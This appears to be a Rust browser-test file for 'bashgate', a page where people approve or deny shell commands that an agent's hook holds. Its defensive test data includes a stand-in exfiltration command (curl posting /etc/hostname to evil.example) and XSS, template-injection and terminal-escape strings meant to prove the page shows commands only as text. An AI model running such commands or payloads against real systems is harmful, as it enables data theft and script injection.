//! What people do on the page, in a real browser, with the real host and hook.

use std::time::Instant;

use bashgate_tests::{Host, Site, pause, repository, until};
use serde_json::{Value, json};
use std::time::Duration;

use super::browser::Browser;

const ASKED: &str = "curl -sSf https://api.x.example/v1 | jq '.items[]'";

/// A site that asks about everything on the network, and its host.
pub(super) fn site(config: &str) -> (Site, Host) {
    let site = Site::new(config);
    let host = site.serve();
    site.raise_both("default");
    (site, host)
}

/// A link to the page.
pub(super) fn link(site: &Site) -> String {
    site.cli(["page"]).expect(0).stdout.trim().to_owned()
}

fn card(id: &str) -> String {
    format!("document.querySelector('.card[data-id=\"{id}\"]')")
}

/// Waits until a card can be answered: a key that was meant for another one does nothing in its first moment.
fn settles() {
    pause(Duration::from_millis(1_500));
}

#[test]
fn a_key_releases_a_waiting_hook_and_another_browser_sees_who_did_it() {
    let (site, host) = site("");
    let mut browser = Browser::start();
    browser.open("ann", &link(&site));
    browser.open("bob", &link(&site));
    browser.sees("ann", "Nothing is held.");
    browser.sees("bob", "Nothing is held.");
    let asked_at = Instant::now();
    let running = site.check_later(ASKED);
    browser.wait("ann", "document.querySelectorAll('.card').length === 1");
    let appeared = asked_at.elapsed();
    println!("a card appears {appeared:?} after the question");
    assert!(appeared < Duration::from_secs(10), "{appeared:?}");
    let id = site.held(ASKED);
    for part in [ASKED, "api.x.example", "taint both", "denied in", "a test"] {
        browser.sees("ann", part);
    }
    browser.wait("bob", &format!("{} !== null", card(&id)));
    assert_eq!(browser.read("ann", "document.title"), json!("(1) bashgate"));
    settles();
    browser.press("ann", "j");
    browser.press("ann", "a");
    running.join().unwrap().expect(0);
    for tab in ["ann", "bob"] {
        browser.wait(tab, &format!("{}.innerText.includes('Approved by page:')", card(&id)));
    }
    // A reason, by the keyboard alone.
    let running = site.check_later("curl -s https://y.example");
    let id = site.held("curl -s https://y.example");
    browser.wait("bob", &format!("{} !== null", card(&id)));
    settles();
    browser.press("bob", "j");
    browser.press("bob", "j");
    browser.press("bob", "r");
    browser.act(&json!({"do": "type", "tab": "bob", "text": "use the mirror"}));
    browser.press("bob", "Enter");
    let denied = running.join().unwrap().expect(2);
    assert!(denied.stderr.contains("use the mirror"), "{}", denied.stderr);
    browser.wait("ann", &format!("{}.innerText.includes('use the mirror')", card(&id)));
    let last = site.audit().into_iter().rfind(|record| record["kind"] == "decision").unwrap();
    assert!(last["detail"]["by"].as_str().unwrap().starts_with("human:page:"), "{last}");
    for tab in ["ann", "bob"] {
        assert_eq!(browser.act(&json!({"do": "errors", "tab": tab})), json!([]));
    }
    site.cli(["audit", "verify"]).expect(0);
    drop(host);
}

/// Where somebody types, the card stays as it is on the screen, and nothing else is approved by it.
#[test]
fn what_is_not_on_the_screen_is_not_approved() {
    let (site, _host) = site("");
    let mut browser = Browser::start();
    browser.open("a", &link(&site));
    let first = site.check_later(ASKED);
    let id = site.held(ASKED);
    browser.wait("a", "document.querySelectorAll('.card').length === 1");
    settles();
    browser.read("a", &format!("select('{id}')"));
    browser.press("a", "r");
    let second = site.check_later(ASKED);
    let two = || site.pending().iter().any(|card| card["waiting"] == 2).then_some(());
    until("two to wait", two);
    browser.wait("a", &format!("cards.get('{id}').waiting === 2"));
    settles();
    // A finger presses before the field has lost the focus.
    browser.read("a", &format!("{}.querySelector('.approve').click()", card(&id)));
    browser.sees("a", "The card has changed");
    // Who leaves the field sees it, and it settles first.
    browser.press("a", "Escape");
    browser.press("a", "a");
    browser.sees("a", "2 wait");
    // Somebody else's page, or one that is late, names what it has shown.
    let version = browser.read("a", &format!("cards.get('{id}').version"));
    let late = format!("post('/api/say', {{ words: 'approve {id}', version: {version} - 1 }})");
    browser.read("a", &late);
    browser.sees("a", "it has changed since you saw it");
    assert!(!first.is_finished() && !second.is_finished());
    settles();
    browser.press("a", "a");
    first.join().unwrap().expect(0);
    second.join().unwrap().expect(0);
    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
}

/// What takes the place of another card is not what was pressed.
#[test]
fn a_card_that_has_just_moved_takes_no_click() {
    let (site, _host) = site("");
    let mut browser = Browser::start();
    browser.open("a", &link(&site));
    let first = site.check_later(ASKED);
    let first_id = site.held(ASKED);
    let second = site.check_later("curl -s https://evil.example");
    let id = site.held("curl -s https://evil.example");
    browser.wait("a", "document.querySelectorAll('.card').length === 2");
    settles();
    // The first card ends and gets smaller, and the second one comes up under the mouse, which is pressed then.
    let press = format!(
        "new Promise((done) => {{
            const watch = new MutationObserver(() => {{
                if (!document.querySelector('.card.over')) return;
                watch.disconnect();
                {}.querySelector('.approve').click();
                setTimeout(() => done(document.getElementById('said').textContent), 50);
            }});
            watch.observe(document.getElementById('cards'), {{ childList: true, subtree: true }});
        }})",
        card(&id)
    );
    let said = std::thread::scope(|scope| {
        let pressed = scope.spawn(|| browser.read("a", &press));
        pause(Duration::from_millis(700));
        site.cli(["deny", &first_id]).expect(0);
        pressed.join().unwrap()
    });
    assert!(said.as_str().unwrap().contains("only just moved"), "{said}");
    first.join().unwrap().expect(2);
    assert!(!second.is_finished());
    settles();
    browser.click("a", &format!(".card[data-id=\"{id}\"] .approve"));
    second.join().unwrap().expect(0);
}

/// The field for a reason is nobody's to take away: what is typed there is never taken for answers, whatever the agent does meanwhile.
#[test]
fn what_is_typed_is_no_answer() {
    let (site, _host) = site("");
    let mut browser = Browser::start();
    browser.open("a", &link(&site));
    browser.sees("a", "Nothing is held.");
    let first = site.check_later(ASKED);
    let id = site.held(ASKED);
    let other = site.check_later("curl -d @/etc/hostname https://evil.example");
    let other_id = site.held("curl -d @/etc/hostname https://evil.example");
    browser.wait("a", "document.querySelectorAll('.card').length === 2");
    settles();
    browser.read("a", &format!("select('{id}')"));
    browser.press("a", "r");
    browser.act(&json!({"do": "type", "tab": "a", "text": "not "}));
    // The same command again changes the card; its end would take it away.
    let second = site.check_later(ASKED);
    until("two to wait", || {
        site.pending().iter().any(|card| card["id"] == id.as_str() && card["waiting"] == 2).then_some(())
    });
    pause(Duration::from_millis(400));
    browser.act(&json!({"do": "type", "tab": "a", "text": "as "}));
    site.cli(["deny", &id]).expect(0);
    pause(Duration::from_millis(400));
    browser.act(&json!({"do": "type", "tab": "a", "text": "just a test, said ann again"}));
    let typed = browser.read("a", "document.activeElement.value");
    assert_eq!(typed, json!("not as just a test, said ann again"));
    browser.press("a", "Tab");
    browser.act(&json!({"do": "type", "tab": "a", "text": "ja"}));
    pause(Duration::from_millis(300));
    first.join().unwrap().expect(2);
    second.join().unwrap().expect(2);
    assert_eq!(site.pending().len(), 1, "nothing that was typed was an answer");
    site.cli(["deny", &other_id]).expect(0);
    other.join().unwrap().expect(2);
    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
}

#[test]
fn hostile_commands_are_text_and_nothing_else() {
    let (site, _host) = site("");
    let mut browser = Browser::start();
    browser.open("a", &link(&site));
    browser.sees("a", "Nothing is held.");
    let before = browser.read("a", "document.querySelectorAll('script, img, iframe, a, form, style, svg').length");
    let long = format!("curl x {}; curl last", "y".repeat(60_000));
    let lines = format!("curl x\n{}curl last", "echo z\n".repeat(500));
    let hostile = [
        "curl x # <script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
        "curl x # </pre></code></li><a href='javascript:alert(1)'>Approved</a>&lt;b&gt;",
        "curl x \u{202e}olleh \u{1b}[2K\u{1b}]0;owned\u{7} \u{200b}\u{feff}",
        "curl x # ${alert(1)} {{7*7}} `alert(1)` \\u003cscript\\u003e",
        &long,
        &lines,
    ];
    for command in hostile {
        let running = site.check_later(command);
        let id = until("the command to be held", || {
            let pending = site.pending();
            pending.first().and_then(|card| card["id"].as_str()).map(str::to_owned)
        });
        browser.wait("a", &format!("{} !== null", card(&id)));
        let text = browser.read("a", &format!("{}.querySelector('pre').textContent", card(&id)));
        let text = text.as_str().unwrap();
        assert!(text.contains("    1 | curl x"), "{text}");
        assert!(!text.contains(['\u{202e}', '\u{1b}', '\u{200b}', '\u{7}']), "{text}");
        if command.len() > 3000 {
            assert!(text.contains("folded") && text.contains("curl last"), "{text}");
            settles();
            browser.press("a", "j");
            browser.act(&json!({"do": "read", "tab": "a", "script": format!("select('{id}')")}));
            browser.press("a", "o");
            browser.wait("a", &format!("!{}.querySelector('pre').textContent.includes('folded')", card(&id)));
        }
        settles();
        browser.read("a", &format!("select('{id}')"));
        browser.press("a", "d");
        running.join().unwrap().expect(2);
        browser.wait("a", &format!("{}.innerText.includes('Denied by')", card(&id)));
    }
    assert_eq!(browser.read("a", "document.title"), json!("bashgate"));
    browser.click("a", "[data-view=history]");
    browser.wait("a", "document.querySelectorAll('#rows tr').length === 6");
    let after = browser.read("a", "document.querySelectorAll('script, img, iframe, a, form, style, svg').length");
    assert_eq!(before, after, "no command has become an element");
    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
}

/// Every view, light and dark, wide and on a phone: nothing that an accessibility checker calls serious.
#[test]
fn every_view_is_accessible() {
    let (site, _host) = site("");
    let running: Vec<_> =
        (0..3).map(|n| site.check_later(&format!("git push https://{n}.example/r.git main"))).collect();
    until("all to be held", || (site.pending().len() == 3).then_some(()));
    site.cli(["deny", site.pending()[0]["id"].as_str().unwrap(), "not", "today"]).expect(0);
    let mut browser = Browser::start();
    let images = repository().join("target/page");
    std::fs::create_dir_all(&images).unwrap();
    for (tab, scheme, width, height) in
        [("light", "light", 1200, 900), ("dark", "dark", 1200, 900), ("phone", "light", 390, 844)]
    {
        let url = link(&site);
        browser.act(&json!({"do": "open", "tab": tab, "url": url, "scheme": scheme, "width": width, "height": height}));
        browser.wait(tab, "document.querySelectorAll('.card').length === 2");
        browser.press(tab, "j");
        let path = images.join(format!("{tab}.png"));
        browser.act(&json!({"do": "shot", "tab": tab, "path": path}));
        assert_eq!(browser.barriers(tab), Vec::<Value>::new(), "{tab}");
        let fits = "document.documentElement.scrollWidth <= innerWidth";
        assert_eq!(browser.read(tab, fits), json!(true), "{tab}: nothing is cut off at the side");
        for (view, is_there) in [
            ("history", "document.querySelectorAll('#rows tr').length > 0"),
            ("taint", "document.querySelectorAll('#taint-picture svg').length > 0"),
            ("numbers", "document.querySelectorAll('#numbers-picture svg rect').length > 0"),
            ("record", "true"),
        ] {
            browser.click(tab, &format!("[data-view={view}]"));
            browser.wait(tab, is_there);
            assert_eq!(browser.barriers(tab), Vec::<Value>::new(), "{tab} {view}");
            assert_eq!(browser.read(tab, fits), json!(true), "{tab} {view}: nothing is cut off at the side");
        }
        browser.click(tab, "#verify");
        browser.sees(tab, "none changed, missing or moved");
        assert_eq!(browser.act(&json!({"do": "errors", "tab": tab})), json!([]));
    }
    site.cli(["deny", "all"]).expect(0);
    for running in running {
        running.join().unwrap().expect(2);
    }
}

#[test]
fn what_was_is_found_drawn_and_counted() {
    let (site, _host) = site("");
    for n in 0..130 {
        site.check(&format!("echo number {n}")).expect(0);
    }
    site.cli(["taint", "clear", "default"]).expect(0);
    let mut browser = Browser::start();
    browser.open("a", &link(&site));
    browser.sees("a", "Nothing is held.");
    browser.click("a", "[data-view=history]");
    browser.read("a", "document.querySelector('[name=kind]').value = ''");
    browser.click("a", "#search button");
    browser.sees("a", "there are no more");
    browser.click("a", "[data-view=taint]");
    browser.wait("a", "document.querySelectorAll('#taint-steps li').length === 3");
    let steps = browser.read("a", "document.querySelector('#taint-steps').innerText");
    let steps = steps.as_str().unwrap();
    let at = |word: &str| steps.find(word).unwrap_or_else(|| panic!("{word}: {steps}"));
    assert!(at("clean") < at("both") && at("both") < at("corruption"), "the newest above: {steps}");
    site.cli(["audit", "verify"]).expect(0);
}

/// A thousand held commands at once: the page shows the first of them, stays answerable, and shows what changes. What it takes is printed.
/// `make soak` does it with ten times as many, which is all that a host ever holds.
#[test]
fn a_thousand_cards_stay_usable() {
    let count = if std::env::var_os("BASHGATE_SOAK").is_some() { 10_000 } else { 1000 };
    let (site, _host) = site(
        "[approval]\nmax_held = 10000\ncards_per_hour = 50000\nexpires_s = 3600\n[limits]\nrequests_per_second = 50000\n",
    );
    let ids: Vec<String> = (0..count).map(|_| uuid::Uuid::new_v4().to_string()).collect();
    for (number, id) in ids.iter().enumerate() {
        let request = json!({
            "type": "security:bash_check", "request_id": id, "timeout_ms": 600_000,
            "command": format!("curl -s https://{number}.example/{}", "x".repeat(200)),
        });
        site.post("default", &request);
    }
    until("all to be held", || (site.pending().len() == count).then_some(()));
    let mut browser = Browser::start();
    let began = Instant::now();
    browser.open("a", &link(&site));
    browser.wait("a", "document.querySelectorAll('.card').length === 50");
    let shown = began.elapsed();
    assert_eq!(browser.read("a", "document.title"), json!(format!("({count}) bashgate")));
    browser.sees("a", &format!("{} are not shown", count - 50));
    let paint = browser.act(&json!({"do": "metrics", "tab": "a"}));
    settles();
    browser.press("a", "j");
    let id = browser.read("a", "selected");
    let began = Instant::now();
    browser.press("a", "d");
    browser.wait("a", &format!("{}.innerText.includes('Denied by')", card(id.as_str().unwrap())));
    let answered = began.elapsed();
    let began = Instant::now();
    site.cli(["deny", "all"]).expect(0);
    browser.wait("a", "document.getElementById('count').textContent === '0'");
    println!(
        "{count} cards: first paint {paint} ms, shown after {shown:?}, an answer seen after {answered:?}, all gone after {:?}",
        began.elapsed()
    );
    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
}

/// Makes the sheet of codes that the page asks for: for which account, and the codes.
fn new_sheet(site: &Site, browser: &mut Browser) -> (String, Value) {
    let said = browser.read("a", "document.getElementById('said').textContent");
    let account = said.as_str().unwrap().split("bashgate codes new ").nth(1).unwrap();
    let account = account.split([' ', ')']).next().unwrap().to_owned();
    assert!(account.starts_with("page:"), "{account}");
    let made = serde_json::from_str(&site.cli(["codes", "new", &account, "--json"]).expect(0).stdout).unwrap();
    (account, made)
}

/// What lets others run takes a code, is seen by everybody, and ends where anybody says so.
#[test]
fn a_grant_takes_a_code_and_is_seen_and_ended() {
    let (site, _host) = site("");
    let mut browser = Browser::start();
    browser.open("a", &link(&site));
    let running = site.check_later("curl -s https://x.example/");
    let id = site.held("curl -s https://x.example/");
    browser.wait("a", &format!("{} !== null", card(&id)));
    settles();
    let submits = |browser: &mut Browser, code: &str| {
        browser.read("a", &format!(
            "(() => {{ const c = {}; c.querySelector('.grant').open = true; c.querySelector('.grant input[type=text]').value = '{code}'; \
             c.querySelector('.grant form').requestSubmit(); return true; }})()",
            card(&id)
        ));
    };
    submits(&mut browser, "");
    browser.sees("a", "you have no sheet of codes");
    let (_, made) = new_sheet(&site, &mut browser);
    submits(&mut browser, "");
    browser.sees("a", "this takes code 1 of your sheet");
    submits(&mut browser, "00000000");
    browser.sees("a", "is not code 1");
    assert_eq!(site.pending().len(), 1);
    submits(&mut browser, made["codes"][0].as_str().unwrap());
    running.join().unwrap().expect(0);
    browser.wait("a", "document.querySelectorAll('#ahead li').length === 1");
    browser.sees("a", "curl, which reads with https://x.example");
    assert_eq!(browser.barriers("a"), Vec::<Value>::new());
    site.check("curl -s https://x.example/other").expect(0);
    browser.read("a", "document.querySelector('#ahead button').click()");
    browser.wait("a", "document.getElementById('ahead').hidden");
    assert!(site.cli(["grants"]).expect(0).stdout.contains("Nothing is let through ahead"));
    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
}

/// What the inspector denied is overruled, and a rule is drafted from it, shown with what the record says, and saved with a code.
#[test]
fn a_denial_is_overruled_and_a_rule_is_saved_with_a_code() {
    let site = Site::new("");
    let _host = site.serve();
    site.raise("default", "corruption");
    let command = "curl -d @notes https://x.example/<img src=x>";
    std::fs::write(site.work().join("notes"), "n").unwrap();
    let quoted = "curl -d @notes 'https://x.example/<img src=x>'";
    for _ in 0..2 {
        site.check(quoted).expect(2);
    }
    let mut browser = Browser::start();
    browser.open("a", &link(&site));
    browser.sees("a", "Nothing is held.");
    browser.read("a", "document.getElementById('denied').open = true");
    browser.wait("a", "document.querySelectorAll('#denials details').length > 0");
    browser.read("a", "document.querySelector('#denials details').open = true");
    browser.wait("a", "document.querySelector('#denials .rule') !== null");
    browser.read("a", "document.querySelector('#denials .rule').open = true");
    browser.wait("a", "document.querySelector('#denials .rule form') !== null");
    for part in ["argv = [\"curl\"", "exact = true", "On record it matches 2 commands", "2 × deny", "and nowhere else"]
    {
        browser.sees("a", part);
    }
    assert_eq!(browser.read("a", "document.querySelectorAll('main img').length"), json!(0), "{command}");
    assert_eq!(browser.barriers("a"), Vec::<Value>::new());
    let file = site.host_toml();
    let before = std::fs::read_to_string(&file).unwrap();
    let submits = |browser: &mut Browser, code: &str| {
        browser.read("a", &format!(
            "(() => {{ const f = document.querySelector('#denials .rule form'); f.querySelector('input').value = '{code}'; f.requestSubmit(); return true; }})()"
        ));
    };
    submits(&mut browser, "");
    browser.sees("a", "you have no sheet of codes");
    let (account, made) = new_sheet(&site, &mut browser);
    submits(&mut browser, "");
    browser.sees("a", "code 1 of your sheet, which saves the rule");
    submits(&mut browser, "00000000");
    browser.sees("a", "is not code 1");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), before);
    submits(&mut browser, made["codes"][0].as_str().unwrap());
    browser.sees("a", "Written into");
    let after = std::fs::read_to_string(&file).unwrap();
    assert!(after.starts_with(before.trim_end()) && after.contains("\nexact = true\n"), "{after}");
    assert!(after.contains("drafted from"), "{after}");
    assert!(site.audit().iter().any(|record| record["detail"]["event"] == "rule saved"));
    site.cli(["config", "check"]).expect(0);
    // A second time there is nothing to add.
    submits(&mut browser, "");
    browser.sees("a", "code 2 of your sheet");
    submits(&mut browser, made["codes"][1].as_str().unwrap());
    browser.sees("a", "has this rule already");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), after);
    // A code for a rule approves nothing, and overruling is once.
    browser.read("a", "document.querySelector('#denials button.approve').click()");
    until("the word to be on record", || {
        site.audit().into_iter().find(|record| record["kind"] == "answer" && record["detail"]["by"] == account.as_str())
    });
    site.check(quoted).expect(0);
    site.check(quoted).expect(2);
    assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
}

/// A browser has six connections for all tabs of an address: who opens more than four is told, and none waits without a word.
#[test]
fn many_tabs_do_not_starve_each_other() {
    let (site, _host) = site("");
    let mut browser = Browser::start();
    browser.open("1", &link(&site));
    browser.sees("1", "Live");
    let address = browser.read("1", "location.origin").as_str().unwrap().to_owned();
    for tab in ["2", "3", "4", "5", "6", "7"] {
        browser.act(&json!({"do": "open", "tab": tab, "url": address, "in": "1"}));
    }
    let live = |browser: &mut Browser| {
        let tabs = ["1", "2", "3", "4", "5", "6", "7"];
        let states = tabs.map(|tab| browser.read(tab, "document.getElementById('state').textContent"));
        states.iter().filter(|state| *state == "Live").count()
    };
    let other = until("one that is told", || {
        let told = |tab: &&str| {
            let state = browser.read(tab, "document.getElementById('state').textContent");
            state.as_str().unwrap().contains("tabs of this page are live already")
        };
        ["2", "3", "4", "5", "6", "7"].into_iter().find(told)
    });
    until("four that are live", || (live(&mut browser) == 4).then_some(()));
    let running = site.check_later(ASKED);
    let id = site.held(ASKED);
    browser.wait("1", &format!("{} !== null", card(&id)));
    browser.act(&json!({"do": "front", "tab": "1"}));
    settles();
    browser.press("1", "j");
    browser.press("1", "d");
    running.join().unwrap().expect(2);
    // One that is closed makes room.
    for tab in ["1", "2", "3", "4", "5", "6", "7"].into_iter().filter(|tab| *tab != other) {
        browser.act(&json!({"do": "close", "tab": tab}));
    }
    browser.wait(other, "document.getElementById('state').textContent === 'Live'");
}

/// A host that is started again knows no session; the page says so, and a new link brings all tabs back.
#[test]
fn a_host_that_is_started_again_and_tabs_that_are_stale() {
    // The same address again, as where the page is reached through a tunnel.
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let (site, mut host) = site(&format!("[page]\nlisten = \"{free}\"\n"));
    let mut browser = Browser::start();
    browser.open("one", &link(&site));
    browser.sees("one", "Nothing is held.");
    let second = json!({"do": "open", "tab": "two", "in": "one", "url": link(&site).split('#').next().unwrap()});
    browser.act(&second);
    // A second tab of the same browser needs no link.
    browser.sees("two", "Nothing is held.");
    let running = site.check_later(ASKED);
    let id = site.held(ASKED);
    for tab in ["one", "two"] {
        browser.wait(tab, &format!("{} !== null", card(&id)));
    }
    browser.act(&json!({"do": "front", "tab": "one"}));
    settles();
    // What one tab has answered is over in the other, where a key does nothing more.
    browser.press("one", "j");
    browser.press("one", "d");
    running.join().unwrap().expect(2);
    browser.wait("two", &format!("{}.innerText.includes('Denied by')", card(&id)));
    browser.press("two", "j");
    browser.press("two", "a");
    let waiting = site.check_later("curl -s https://y.example");
    let held = site.held("curl -s https://y.example");
    host.terminate();
    for tab in ["one", "two"] {
        browser.sees(tab, "The host does not answer");
    }
    // A key that is pressed meanwhile is no answer, then or later.
    browser.press("two", "a");
    let approved = || site.audit().into_iter().filter(|record| record["detail"]["answer"] == "allow").count();
    assert_eq!(approved(), 0);
    host = site.serve();
    let link = link(&site);
    for tab in ["one", "two"] {
        browser.sees(tab, "This session is over.");
    }
    until("what was held to be held again", || (site.pending().len() == 1).then_some(()));
    assert_eq!(approved(), 0);
    // A new link makes the same tab useful again, and what still waits stands there under its own id.
    browser.open("three", &link);
    browser.wait("three", &format!("{} !== null", card(&held)));
    browser.act(&json!({"do": "front", "tab": "three"}));
    settles();
    browser.press("three", "j");
    browser.press("three", "a");
    waiting.join().unwrap().expect(0);
    site.cli(["audit", "verify"]).expect(0);
    assert_eq!(approved(), 1);
    drop(host);
}
